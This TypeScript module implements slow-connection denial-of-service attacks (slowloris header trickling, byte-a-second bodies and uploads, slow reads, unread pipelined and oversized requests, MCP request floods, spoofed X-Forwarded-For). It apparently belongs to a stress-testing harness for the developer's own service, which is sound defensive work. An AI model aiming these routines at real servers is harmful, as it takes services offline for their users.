import { setTimeout as delay } from "node:timers/promises";
import { agentHeaders } from "./floods.ts";
import { type Attack, headOf, note, openUnread, type Target } from "./target.ts";

/** Keeps this many connections busy: after the server closes one, it is reopened after a pause. */
function keepOpen(count: number, pauseMs: number, hold: (target: Target) => Promise<void>): Attack {
  return async (target, name) => {
    const keepOne = async () => {
      for (;;) {
        note(name, "opened");
        await hold(target);
        note(name, "ended");
        await delay(pauseMs);
      }
    };
    await Promise.all(Array.from({ length: count }, keepOne));
  };
}

/** Sends the beginning, then one piece per second until the server closes the connection. */
async function trickle(target: Target, beginning: string, piece: string): Promise<void> {
  const socket = await openUnread(target);
  socket.write(beginning);
  while (!socket.destroyed) {
    await delay(1_000);
    // Without reading, the socket wouldn't notice that the server has closed it.
    socket.read();
    if (socket.writable) socket.write(piece);
  }
}

const guides = Buffer.from(
  JSON.stringify(
    Array.from({ length: 10 }, (_, id) => ({
      jsonrpc: "2.0",
      id,
      method: "tools/call",
      params: { name: "canvas_guide", arguments: {} },
    })),
  ),
);

const batch = Buffer.from(JSON.stringify({ texts: Array.from({ length: 6 }, () => "x".repeat(9_000_000)) }));

/** Attacks with connections that hold resources for as long as the server lets them. */
export const slowConnections: Readonly<Record<string, Attack>> = {
  "replies of 54 MB that nobody reads": keepOpen(16, 1_000, async (target) => {
    const socket = await openUnread(target);
    const headers = {
      Authorization: `Bearer ${target.key}`,
      "Content-Type": "application/json",
      "Content-Length": batch.length,
    };
    socket.write(headOf("POST", "/api/md5/text/batch", headers));
    socket.write(batch);
    await delay(20_000);
    socket.destroy();
  }),
  "hundreds of loads on a connection, unread": keepOpen(4, 1_000, async (target) => {
    const socket = await openUnread(target);
    socket.write(headOf("GET", `/api/editor-canvas/${target.largeCanvas}`).repeat(400));
    await delay(5_000);
    socket.destroy();
  }),
  "loads and pages without scripts, unread, from one address": async (target, name) => {
    // 50 a second, the default limit of an address, each held for as long as the server lets it.
    for (let turn = 0; ; turn++) {
      const path = [`/api/editor-canvas/${target.largeCanvas}`, `/editor-canvas/${target.largeCanvas}?norun`];
      const socket = await openUnread(target);
      socket.write(headOf("GET", path[turn % 2] ?? "", { "X-Forwarded-For": "198.51.100.5" }));
      note(name, "opened");
      socket.once("close", () => note(name, "ended"));
      await delay(20);
    }
  },
  "agents that read no reply": keepOpen(100, 100, async (target) => {
    const socket = await openUnread(target);
    const headers = { ...agentHeaders(target.agentKeys[1]), "Content-Length": guides.length };
    socket.write(headOf("POST", "/mcp", headers));
    socket.write(guides);
    await delay(20_000);
    socket.destroy();
  }),
  "readers of a kilobyte a second": keepOpen(20, 100, async (target) => {
    const socket = await openUnread(target);
    socket.write(headOf("GET", `/api/editor-canvas/${target.largeCanvas}`));
    while (!socket.destroyed) {
      await delay(1_000);
      socket.read(1_000);
    }
  }),
  "bodies of a byte a second": keepOpen(100, 100, (target) =>
    trickle(
      target,
      headOf("POST", "/api/editor-canvas", { "Content-Type": "application/json", "Content-Length": 100_000 }),
      " ",
    ),
  ),
  "uploads of a byte a second": keepOpen(50, 100, (target) =>
    trickle(
      target,
      `${headOf("POST", "/api/md5/file", {
        Authorization: `Bearer ${target.key}`,
        "Content-Type": "multipart/form-data; boundary=b",
        "Content-Length": 50_000_000,
      })}--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n`,
      "x",
    ),
  ),
  "headers of a line a second": keepOpen(100, 100, (target) =>
    trickle(target, "GET / HTTP/1.1\r\nHost: localhost\r\n", "X-A: b\r\n"),
  ),
};
